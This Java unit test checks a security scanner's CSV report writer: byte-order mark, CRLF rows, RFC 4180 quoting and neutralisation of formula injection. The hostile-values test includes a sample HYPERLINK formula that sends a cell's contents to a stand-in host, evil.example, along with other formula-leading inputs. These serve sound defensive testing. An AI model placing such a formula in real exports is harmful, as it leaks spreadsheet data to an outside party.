package io.relyscan.report;

import io.relyscan.core.engine.ScanReport;
import io.relyscan.core.rule.Finding;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

class CsvReporterTest {
    @Test
    void reporter_namesItsFormatAndFile() {
        assertThat(new CsvReporter().format()).isEqualTo("csv");
        assertThat(new CsvReporter().defaultFileName()).isEqualTo("relyscan-findings.csv");
    }

    @Test
    void render_isDeterministic_utf8WithBom_crlfRows_oneRowPerFindingInReportOrder() {
        ScanReport report = ReportFixtures.report();
        byte[] bytes = new CsvReporter().render(report);
        assertThat(bytes).isEqualTo(new CsvReporter().render(ReportFixtures.report()));
        assertThat(bytes[0]).isEqualTo((byte) 0xEF);
        assertThat(bytes[1]).isEqualTo((byte) 0xBB);
        assertThat(bytes[2]).isEqualTo((byte) 0xBF);
        String csv = new String(bytes, StandardCharsets.UTF_8);
        assertThat(csv).endsWith("\r\n");
        List<List<String>> rows = parse(csv);
        assertThat(rows.get(0)).isEqualTo(CsvReporter.HEADER);
        assertThat(rows).hasSize(report.findings().size() + 1);
        for (int i = 0; i < report.findings().size(); i++) {
            Finding f = report.findings().get(i);
            List<String> row = rows.get(i + 1);
            assertThat(row).hasSize(CsvReporter.HEADER.size());
            assertThat(row.get(0)).isEqualTo(f.id());
            assertThat(row.get(1)).isEqualTo(f.ruleId());
            assertThat(row.get(4)).isEqualTo(f.outcome().name());
            assertThat(row.get(8)).isEqualTo(f.resourceArn());
        }
    }

    @Test
    void evidence_isCompactKeyValueText_inKeyOrder() {
        List<List<String>> rows = parse(new String(new CsvReporter().render(ReportFixtures.report()),
                StandardCharsets.UTF_8));
        assertThat(rows).anySatisfy(r -> assertThat(r.get(11))
                .isEqualTo("availabilityZones=[\"us-east-1a\",\"us-east-1b\"]; zoneCount=2"));
    }

    @Test
    void hostileValues_areNeutralizedAndQuoted_andParseBackToOneCellEach() {
        String csv = new String(new CsvReporter().render(ReportFormatsTestSupport.hostileReport()),
                StandardCharsets.UTF_8);
        List<List<String>> rows = parse(csv);
        List<String> hostile = ReportFormatsTestSupport.HOSTILE;
        assertThat(rows).hasSize(hostile.size() + 1);
        for (List<String> row : rows) {
            assertThat(row).hasSize(CsvReporter.HEADER.size());
            for (String cell : row) {
                assertThat(cell).as("no cell may start a formula").doesNotMatch("(?s)^[=+\\-@\t\r].*");
            }
        }
        for (int i = 0; i < hostile.size(); i++) {
            String h = hostile.get(i).replace("\ud800", "\uFFFD");
            List<String> row = rows.get(i + 1);
            String expected = "=+-@\t\r".indexOf(h.charAt(0)) >= 0 ? "'" + h : h;
            assertThat(row.get(9)).as("resource name").isEqualTo(expected);
            assertThat(row.get(10)).as("message").isEqualTo(expected);
            assertThat(row.get(11)).as("evidence").isEqualTo("tag=" + h);
        }
        assertThat(csv).contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"")
                .contains(",'+1,").contains(",'-2,").contains(",'@x,").contains(",\"'\rCR\",")
                .contains(",\"say \"\"hi\"\", then, leave\",");
    }

    @Test
    void neutralize_and_quote_followTheRules() {
        assertThat(CsvReporter.neutralize("=1+2")).isEqualTo("'=1+2");
        assertThat(CsvReporter.neutralize("a=1")).isEqualTo("a=1");
        assertThat(CsvReporter.neutralize("")).isEmpty();
        assertThat(CsvReporter.quote("plain")).isEqualTo("plain");
        assertThat(CsvReporter.quote("a,b")).isEqualTo("\"a,b\"");
        assertThat(CsvReporter.quote("a\"b")).isEqualTo("\"a\"\"b\"");
        assertThat(CsvReporter.quote("a\nb")).isEqualTo("\"a\nb\"");
    }

    /** A strict RFC 4180 parser: CRLF rows, quoted fields with doubled quotes; the BOM is skipped. */
    static List<List<String>> parse(String csv) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        int i = csv.startsWith("\uFEFF") ? 1 : 0;
        boolean quoted = false;
        boolean wasQuoted = false;
        while (i < csv.length()) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"') {
                    if (i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                        cell.append('"');
                        i += 2;
                        continue;
                    }
                    quoted = false;
                } else {
                    cell.append(c);
                }
                i++;
                continue;
            }
            if (c == '"') {
                if (cell.length() != 0 || wasQuoted) {
                    throw new AssertionError("quote inside an unquoted field at " + i);
                }
                quoted = true;
                wasQuoted = true;
                i++;
            } else if (c == ',') {
                row.add(cell.toString());
                cell.setLength(0);
                wasQuoted = false;
                i++;
            } else if (c == '\r') {
                if (i + 1 >= csv.length() || csv.charAt(i + 1) != '\n') {
                    throw new AssertionError("bare CR outside quotes at " + i);
                }
                row.add(cell.toString());
                cell.setLength(0);
                wasQuoted = false;
                rows.add(row);
                row = new ArrayList<>();
                i += 2;
            } else if (c == '\n') {
                throw new AssertionError("bare LF outside quotes at " + i);
            } else {
                if (wasQuoted) {
                    throw new AssertionError("text after a closing quote at " + i);
                }
                cell.append(c);
                i++;
            }
        }
        if (quoted || cell.length() != 0 || !row.isEmpty()) {
            throw new AssertionError("last row does not end with CRLF");
        }
        return rows;
    }
}
